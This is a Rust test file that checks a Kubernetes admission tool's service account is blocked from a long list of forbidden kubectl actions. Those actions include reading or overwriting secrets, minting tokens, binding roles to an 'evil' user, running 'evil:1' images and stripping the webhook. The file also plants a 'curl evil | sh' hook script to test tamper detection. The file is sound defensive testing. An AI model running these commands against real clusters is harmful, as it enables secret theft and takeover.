//! What the account of the install file is kept from: by RBAC, and by policies that hold though all rights were given to it.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a helper that fails is a test that fails"
)]

mod cluster;

use std::path::{Path, PathBuf};

use cluster::ControlPlane;
use cluster::side::namespace;
use serde_json::{Value, json};
use silkroll::cli::engine;
use testkit::process::Output;
use testkit::wait::eventually;

const ACCOUNT: &str = "system:serviceaccount:silkroll-system:silkroll";

/// Who refuses a call where RBAC would let the account do everything.
#[derive(Clone, Copy, PartialEq)]
enum Fence {
    /// The policy.
    Policy,
    /// RBAC alone: the API asks no policy about what only reads, nor about policies and their bindings.
    Rbac,
}
use Fence::{Policy, Rbac};

/// kubectl's arguments, and what it gets on standard input: an object, named, or nothing.
const FORBIDDEN: &[(Fence, &str, &str)] = &[
    // ConfigMaps that are not its own, or not as it writes them.
    (Policy, "create -n shop -f -", "other name"),
    (Policy, "create -n shop -f -", "longer name"),
    (Policy, "create -n shop -f -", "other key"),
    (Policy, "create -n shop -f -", "one more key"),
    (Policy, "create -n shop -f -", "one more program"),
    (Policy, "create -n shop -f -", "both kinds of data"),
    (Policy, "create -n shop -f -", "no data"),
    (Policy, "create -n shop -f -", "mutable"),
    (Policy, "create -n shop -f -", "finalizer"),
    (Policy, "create -n shop -f -", "owner"),
    (Policy, "create -n shop -f -", "notes"),
    (Policy, "create -n shop -f -", "large script"),
    (Policy, "create -n shop -f -", "large program"),
    (Policy, "create -n shop -f -", "large annotation"),
    (Policy, "create -n shop -f -", "many labels"),
    (Policy, "create -n silkroll-system -f -", "closed notes"),
    (Policy, "create -n silkroll-system -f -", "large notes"),
    (Policy, "create -n silkroll-system -f -", "annotated lease"),
    (Policy, "create -n plain -f -", "script"),
    (Policy, "create -n out -f -", "script"),
    (Policy, "create -n kube-system -f -", "script"),
    (Policy, "create -n silkroll-system -f -", "script"),
    (Policy, "create -n silkroll-system -f -", "notes with text"),
    (Policy, "label configmap -n shop foreign a=b", ""),
    (
        Policy,
        "patch configmap -n shop foreign -p {\"data\":{\"a\":\"b\"}}",
        "",
    ),
    (Policy, "label configmap -n shop SCRIPT a=b", ""),
    (Policy, "delete configmap -n shop foreign", ""),
    (Policy, "delete configmap -n shop SCRIPT", ""),
    (Policy, "delete configmap -n shop --all", ""),
    (Rbac, "get configmap -n shop foreign", ""),
    (Rbac, "get configmap -A", ""),
    // What the audit writes, and nothing like it.
    (Policy, "create -n silkroll-system -f -", "other lease"),
    (Policy, "create -n silkroll-system -f -", "owned lease"),
    (Policy, "create -n kube-system -f -", "lease"),
    (Policy, "create -n shop -f -", "foreign event"),
    (Policy, "create -n shop -f -", "old event"),
    (Policy, "create -n kube-system -f -", "event in kube-system"),
    (Policy, "create -n plain -f -", "event in plain"),
    (Policy, "create -n out -f -", "event in out"),
    (Policy, "create -n shop -f -", "event on a node"),
    (Policy, "create -n shop -f -", "event of elsewhere"),
    (Policy, "create -n shop -f -", "event of another action"),
    (Policy, "create -n shop -f -", "event of a series"),
    (Policy, "create -n shop -f -", "large event"),
    (Policy, "label event -n shop told.1 a=b", ""),
    (Policy, "delete event -n shop told.1", ""),
    (Policy, "delete lease -n silkroll-system silkroll-audit", ""),
    // Secrets.
    (
        Policy,
        "create secret generic -n shop stolen --from-literal=a=b",
        "",
    ),
    (Policy, "delete secret -n silkroll-system silkroll-tls", ""),
    (
        Policy,
        "patch secret -n silkroll-system silkroll-tls -p {\"data\":{\"tls.key\":\"YQ==\"}}",
        "",
    ),
    (Rbac, "get secret -n silkroll-system silkroll-tls", ""),
    (Rbac, "get secret -n silkroll-system", ""),
    (Rbac, "get secret -n shop silkroll-own-ca", ""),
    (Rbac, "get secret -A", ""),
    // Its own CA's, other than as it writes it.
    (
        Policy,
        "create secret generic -n silkroll-system more --from-literal=ca.crt=a",
        "",
    ),
    (
        Policy,
        "create secret generic -n shop silkroll-own-ca --from-literal=ca.crt=a",
        "",
    ),
    (
        Policy,
        "delete secret -n silkroll-system silkroll-own-ca",
        "",
    ),
    (
        Policy,
        "patch secret -n silkroll-system silkroll-own-ca -p {\"stringData\":{\"tls.key\":\"a\"}}",
        "",
    ),
    (
        Policy,
        "patch secret -n silkroll-system silkroll-own-ca -p {\"metadata\":{\"finalizers\":[\"example.com/a\"]}}",
        "",
    ),
    (
        Policy,
        "patch secret -n silkroll-system silkroll-own-ca -p {\"immutable\":true}",
        "",
    ),
    (
        Policy,
        "patch secret -n silkroll-system silkroll-own-ca --type=merge --patch-file=/dev/stdin",
        "annotations",
    ),
    // What runs, and who may run it.
    (Policy, "create -n shop -f -", "pod"),
    (Policy, "create -n shop -f -", "deployment"),
    (Policy, "delete deployment -n silkroll-system silkroll", ""),
    (
        Policy,
        "scale deployment -n silkroll-system silkroll --replicas=0",
        "",
    ),
    (
        Policy,
        "set image deployment -n silkroll-system silkroll silkroll=evil:1",
        "",
    ),
    (Policy, "create job -n shop evil --image=evil:1", ""),
    (Policy, "create token -n silkroll-system silkroll", ""),
    (Policy, "create serviceaccount -n shop evil", ""),
    (
        Policy,
        "create clusterrolebinding evil --clusterrole=view --user=evil",
        "",
    ),
    (
        Policy,
        "create rolebinding -n shop evil --clusterrole=view --user=evil",
        "",
    ),
    (
        Policy,
        "patch clusterrole silkroll --type=json -p [{\"op\":\"remove\",\"path\":\"/rules/0\"}]",
        "",
    ),
    // Namespaces and nodes.
    (
        Policy,
        "annotate namespace plain silkroll.dev/inject=enabled",
        "",
    ),
    (Policy, "create namespace evil", ""),
    (Policy, "delete namespace shop", ""),
    (Policy, "create -f -", "node"),
    // Admission itself.
    (Policy, "delete mutatingwebhookconfiguration silkroll", ""),
    (
        Policy,
        "label mutatingwebhookconfiguration silkroll a=b",
        "",
    ),
    (
        Policy,
        "annotate mutatingwebhookconfiguration silkroll a=b",
        "",
    ),
    (Policy, "OWN {\"op\":\"remove\",\"path\":\"/webhooks\"}", ""),
    (
        Policy,
        "OWN {\"op\":\"remove\",\"path\":\"/webhooks/0\"}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"remove\",\"path\":\"/webhooks/0/namespaceSelector\"}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"remove\",\"path\":\"/webhooks/0/matchConditions\"}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"replace\",\"path\":\"/webhooks/0/failurePolicy\",\"value\":\"Fail\"}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"replace\",\"path\":\"/webhooks/0/timeoutSeconds\",\"value\":30}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"replace\",\"path\":\"/webhooks/0/rules/0/resources\",\"value\":[\"*\"]}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"replace\",\"path\":\"/webhooks/0/clientConfig/service/name\",\"value\":\"evil\"}",
        "",
    ),
    (
        Policy,
        "OWN {\"op\":\"replace\",\"path\":\"/webhooks/0/name\",\"value\":\"evil.silkroll.dev\"}",
        "",
    ),
    (
        Policy,
        "patch mutatingwebhookconfiguration other --type=json -p [{\"op\":\"add\",\"path\":\"/webhooks/0/clientConfig/caBundle\",\"value\":\"YQ==\"}]",
        "",
    ),
    (Rbac, "get mutatingwebhookconfiguration other", ""),
    (Rbac, "get mutatingwebhookconfiguration", ""),
    (
        Rbac,
        "delete validatingadmissionpolicybinding silkroll-account",
        "",
    ),
    (Policy, "create -f -", "webhook"),
];

/// What the object of this name begins as.
fn begun(name: &str) -> Value {
    let script = || serde_json::to_value(engine::script().config_map("x")).unwrap();
    match name {
        "script" | "other name" | "longer name" | "other key" | "one more key"
        | "both kinds of data" | "no data" | "mutable" | "finalizer" | "owner" | "large script"
        | "large annotation" | "many labels" => script(),
        "annotations" => json!({"metadata": {}}),
        "helper" | "one more program" | "large program" => {
            serde_json::to_value(engine::helper().config_map("x")).unwrap()
        }
        "notes" | "notes with text" | "closed notes" | "large notes" => json!({
            "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": "helper-namespaces"}, "data": {"shop": ""},
        }),
        "lease" | "other lease" | "owned lease" | "annotated lease" => json!({
            "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
            "metadata": {"name": "silkroll-audit"}, "spec": {"holderIdentity": "a"},
        }),
        name if name.contains("event") && name != "old event" => json!({
            "apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": {"name": "told.1"},
            "eventTime": "2026-11-27T15:00:00.000000Z", "reportingController": "silkroll.dev/audit",
            "reportingInstance": "a", "action": "Audit", "reason": "NotInjected", "type": "Warning",
            "regarding": {"apiVersion": "apps/v1", "kind": "Deployment", "namespace": "shop", "name": "web"},
        }),
        "old event" => json!({
            "apiVersion": "v1", "kind": "Event", "metadata": {"name": "told.2"},
            "reportingComponent": "silkroll.dev/audit", "reason": "NotInjected", "type": "Warning",
            "involvedObject": {"apiVersion": "apps/v1", "kind": "Deployment", "namespace": "shop", "name": "web"},
        }),
        "pod" => json!({
            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil"},
            "spec": {"containers": [{"name": "evil", "image": "evil:1"}]},
        }),
        "deployment" => json!({
            "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "evil"},
            "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {
                "metadata": {"labels": {"a": "b"}},
                "spec": {"containers": [{"name": "evil", "image": "evil:1"}]},
            }},
        }),
        "node" => json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "evil"}}),
        "other webhook" => json!({
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "other"}, "webhooks": [{
                "name": "other.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                "failurePolicy": "Ignore", "rules": [], "clientConfig": {"url": "https://localhost:1/"},
            }],
        }),
        "webhook" => json!({
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "evil"}, "webhooks": [],
        }),
        other => panic!("there is no object {other:?}"),
    }
}

fn object(name: &str) -> Value {
    let mut object = begun(name);
    match name {
        "other name" => object["metadata"]["name"] = "kube-root-ca.crt".into(),
        "longer name" => object["metadata"]["name"] = "silkroll-0123456789abc".into(),
        "other key" => object["data"] = json!({"run.sh": "#!/bin/sh\n"}),
        "one more key" => object["data"]["run.sh"] = "#!/bin/sh\n".into(),
        "one more program" => object["binaryData"]["run"] = "YQ==".into(),
        "both kinds of data" => object["binaryData"] = json!({"hook-amd64": "YQ=="}),
        "no data" => object["data"] = Value::Null,
        "mutable" => object["immutable"] = false.into(),
        "finalizer" => object["metadata"]["finalizers"] = json!(["example.com/stays"]),
        "owner" | "owned lease" => {
            object["metadata"]["ownerReferences"] = json!([{
                "apiVersion": "v1", "kind": "ConfigMap", "name": "foreign",
                "uid": "b6f0d5c4-0000-0000-0000-000000000000",
            }]);
        }
        "notes with text" => object["data"]["shop"] = "evil".into(),
        "other lease" => object["metadata"]["name"] = "other".into(),
        "foreign event" => object["reportingController"] = "kubelet".into(),
        "large script" => object["data"]["hook.sh"] = "x".repeat(200_000).into(),
        // In base64: 300,000 bytes.
        "large program" => object["binaryData"]["hook-amd64"] = "AAAA".repeat(100_000).into(),
        "large annotation" | "annotated lease" | "large event" | "annotations" => {
            object["metadata"]["annotations"] = json!({"a": "x".repeat(2_000)});
        }
        "many labels" => {
            let labels = (0..50).map(|n| (format!("a{n}"), Value::from("b")));
            object["metadata"]["labels"] = labels.collect::<serde_json::Map<_, _>>().into();
        }
        "closed notes" => object["immutable"] = true.into(),
        "large notes" => {
            let notes = (0..7_000).map(|n| (format!("a{n}"), Value::from("")));
            object["data"] = notes.collect::<serde_json::Map<_, _>>().into();
        }
        "event on a node" => {
            object["regarding"] = json!({"kind": "Node", "name": "n1", "namespace": "shop"});
        }
        "event of elsewhere" => object["regarding"]["namespace"] = "default".into(),
        "event of another action" => object["action"] = "Evict".into(),
        "event of a series" => {
            object["series"] =
                json!({"count": 2, "lastObservedTime": "2026-11-27T15:00:00.000000Z"});
        }
        _ => {}
    }
    if let Some(namespace) = name.strip_prefix("event in ") {
        object["regarding"]["namespace"] = namespace.into();
    }
    if let Some(metadata) = object["metadata"].as_object_mut() {
        metadata.remove("namespace");
    }
    object
}

struct Account<'p> {
    plane: &'p ControlPlane,
    kubeconfig: PathBuf,
}

impl Account<'_> {
    fn kubectl(&self, args: &str, stdin: &str) -> Output {
        let args = args.replace("SCRIPT", &engine::script().name);
        let args = match args.strip_prefix("OWN ") {
            Some(patch) => format!("{OWN} [{patch}]"),
            None => args,
        };
        let args: Vec<&str> = args.split(' ').collect();
        let stdin = match stdin {
            "" => String::new(),
            name => object(name).to_string(),
        };
        self.plane.kubectl_as(&self.kubeconfig, &args, &stdin)
    }
}

/// What changes the webhook configuration of the install file.
const OWN: &str = "patch mutatingwebhookconfiguration silkroll --type=json -p";

/// The one change of it that is the account's: a PEM without a certificate in it, which API servers take.
const PUBLISH: &str = "OWN {\"op\":\"add\",\"path\":\"/webhooks/0/clientConfig/caBundle\",\"value\":\
    \"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1BPT0KLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo=\"}";

const BY_POLICY: &str = "ValidatingAdmissionPolicy 'silkroll-account'";

#[test]
fn forbidden_calls_are_denied_and_those_that_write_though_all_rights_were_given() {
    let plane = ControlPlane::shared();
    let install = Path::new(env!("CARGO_MANIFEST_DIR")).join("manifests/install.yaml");
    plane.ok(&["apply", "-f", &install.display().to_string()], "");
    namespace(plane, "shop", Some("enabled"));
    namespace(plane, "asks", Some("on-request"));
    namespace(plane, "out", Some("disabled"));
    namespace(plane, "plain", None);
    let made = ["create", "configmap", "-n", "shop", "foreign"];
    plane.ok(&made, "");
    // There are no controllers here that would make it, and a Pod without one is refused before policies are asked.
    plane.ok(&["create", "serviceaccount", "-n", "shop", "default"], "");
    let secret = ["create", "secret", "generic", "-n", "silkroll-system"];
    plane.ok(&[&secret[..], &["silkroll-tls"]].concat(), "");
    plane.ok(&["create", "-f", "-"], &object("other webhook").to_string());
    let account = Account {
        plane,
        kubeconfig: plane.kubeconfig_for_service_account("silkroll-system", "silkroll"),
    };
    assert!(FORBIDDEN.len() >= 40);

    // A policy is in force moments after it was applied.
    eventually("the policy in force", || {
        let tried = account.kubectl("create -n shop --dry-run=server -f -", "other name");
        tried.stderr.contains(BY_POLICY).then_some(())
    });
    // What it does for a living.
    for allowed in [
        ("create -n shop -f -", "script"),
        ("create -n asks -f -", "helper"),
        ("create -n silkroll-system -f -", "lease"),
        ("get lease -n silkroll-system silkroll-audit", ""),
        ("create -n shop -f -", "event"),
        ("get deployment -A", ""),
        (
            "create secret generic -n silkroll-system silkroll-own-ca --from-literal=ca.crt=a",
            "",
        ),
        ("get secret -n silkroll-system silkroll-own-ca", ""),
        ("get mutatingwebhookconfiguration silkroll", ""),
        (PUBLISH, ""),
    ] {
        let done = account.kubectl(allowed.0, allowed.1);
        assert!(done.success, "{allowed:?}: {done:?}");
    }

    for (_, args, stdin) in FORBIDDEN {
        let denied = account.kubectl(args, stdin);
        assert!(!denied.success, "kubectl {args} ({stdin}): {denied:?}");
        let said = denied.stderr.to_lowercase();
        assert!(
            said.contains("forbidden"),
            "kubectl {args} ({stdin}): {denied:?}"
        );
    }

    let all = format!("--user={ACCOUNT}");
    plane.ok(
        &[
            "create",
            "clusterrolebinding",
            "everything",
            "--clusterrole=cluster-admin",
            &all,
        ],
        "",
    );
    eventually("all rights in force", || {
        let may = account.kubectl("get secret -A", "");
        may.success.then_some(())
    });
    for (_, args, stdin) in FORBIDDEN.iter().filter(|row| row.0 == Policy) {
        let denied = account.kubectl(args, stdin);
        assert!(
            !denied.success && denied.stderr.contains(BY_POLICY),
            "kubectl {args} ({stdin}): {denied:?}"
        );
    }
    // And what it may do it may do.
    for allowed in [
        ("create -n silkroll-system -f -", "notes"),
        (
            "patch configmap -n silkroll-system helper-namespaces -p {\"data\":{\"asks\":\"\"}}",
            "",
        ),
        (
            "patch secret -n silkroll-system silkroll-own-ca -p {\"stringData\":{\"ca.key\":\"a\"}}",
            "",
        ),
        ("auth can-i get secrets", ""),
        // Of this the API asks no policy, so RBAC is all there is.
        (
            "label validatingadmissionpolicybinding silkroll-account a=b --dry-run=server",
            "",
        ),
    ] {
        let done = account.kubectl(allowed.0, allowed.1);
        assert!(done.success, "{allowed:?}: {done:?}");
    }
    // Others are none of its business.
    plane.ok(&["label", "configmap", "-n", "shop", "foreign", "a=b"], "");
    plane.ok(&["delete", "clusterrolebinding", "everything"], "");
}

/// What docs/security.md has for whoever suspects that a token was stolen, run as its reader does.
fn compared(plane: &ControlPlane, folder: &Path) -> Output {
    let repository = Path::new(env!("CARGO_MANIFEST_DIR"));
    let block = testkit::pages::block(repository, "sh compare").unwrap();
    let silkroll = Path::new(env!("CARGO_BIN_EXE_silkroll"));
    let kubectl = std::env::var("SILKROLL_CLUSTER_BIN").unwrap_or_default();
    let path = std::env::var("PATH").unwrap();
    let path = format!("{}:{kubectl}:{path}", silkroll.parent().unwrap().display());
    let mut bash = std::process::Command::new("timeout");
    bash.args(["60", "bash", "-euo", "pipefail", "-c", &block])
        .current_dir(folder)
        .env("HOME", folder)
        .env("KUBECONFIG", plane.kubeconfig())
        .env("PATH", path);
    testkit::process::run(&mut bash, b"").unwrap()
}

#[test]
fn what_a_stolen_token_has_left_is_found_by_the_documented_command() {
    let plane = ControlPlane::start(cluster::Options::default());
    let folder = tempfile::tempdir().unwrap();
    for name in ["good", "bad", "worse"] {
        namespace(&plane, name, Some("enabled"));
    }
    for (namespace, name) in [("good", "script"), ("good", "helper")] {
        let made = ["create", "-n", namespace, "-f", "-"];
        plane.ok(&made, &object(name).to_string());
    }
    let clean = compared(&plane, folder.path());
    assert!(clean.success && clean.stdout.is_empty(), "{clean:?}");
    let mut script = object("script");
    script["data"]["hook.sh"] = "#!/bin/sh\ncurl evil | sh\n".into();
    plane.ok(&["create", "-n", "bad", "-f", "-"], &script.to_string());
    let mut helper = object("helper");
    helper["binaryData"]["hook-amd64"] = "ZXZpbA==".into();
    plane.ok(&["create", "-n", "worse", "-f", "-"], &helper.to_string());
    let found = compared(&plane, folder.path());
    let lines: Vec<_> = found.stdout.lines().collect();
    assert!(
        found.success
            && lines.len() == 2
            && lines[0].starts_with("bad ")
            && lines[1].starts_with("worse "),
        "{found:?}"
    );
}
